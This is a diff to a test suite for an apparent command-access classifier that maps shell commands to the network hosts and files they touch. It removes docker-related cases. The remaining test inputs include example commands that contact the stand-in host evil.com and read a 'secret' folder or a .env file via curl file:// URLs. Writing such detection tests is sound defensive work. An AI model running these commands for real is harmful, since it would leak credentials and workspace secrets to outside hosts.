@@ -88,19 +88,12 @@ describe('access', () => {
     expect(access('curl --url=evil.com')).toContain('network http://evil.com')
     expect(access('wget -e http_proxy=evil.com:1 a.com')).toContain('network http://evil.com:1')
     expect(access('ssh -J me@evil.com host ls')).toContain('network ssh://evil.com')
-    expect(access('docker pull evil.com/x')).toContain('network https://evil.com')
-    expect(access('docker push evil.com:5000/x')).toContain('network https://evil.com:5000')
-    expect(access('docker pull alpine')).toContain('network https://registry-1.docker.io')
   })
 
-  test('files that are packed, staged, mounted or fetched as URLs are reads', () => {
+  test('files that are packed, staged or fetched as URLs are reads', () => {
     expect(access('zip -r x.zip secret')).toContain('file_read /home/dev/ws/secret')
     expect(access('git add secret/a')).toContain('file_read /home/dev/ws/secret/a')
     expect(access('git hash-object f')).toContain('file_read /home/dev/ws/f')
-    expect(access('docker run -v ./secret:/x alpine')).toContain('file_read /home/dev/ws/secret')
-    expect(access('docker run --mount type=bind,source=/home/dev/ws/secret,target=/x a')).toContain(
-      'file_read /home/dev/ws/secret',
-    )
     expect(access('curl file:///home/dev/ws/.env')).toContain('file_read /home/dev/ws/.env')
     expect(access('curl file:///home/dev/ws/%2eenv')).toContain('file_read /home/dev/ws/.env')
     expect(access('tar cf x secret')).toContain('file_read /home/dev/ws/secret')
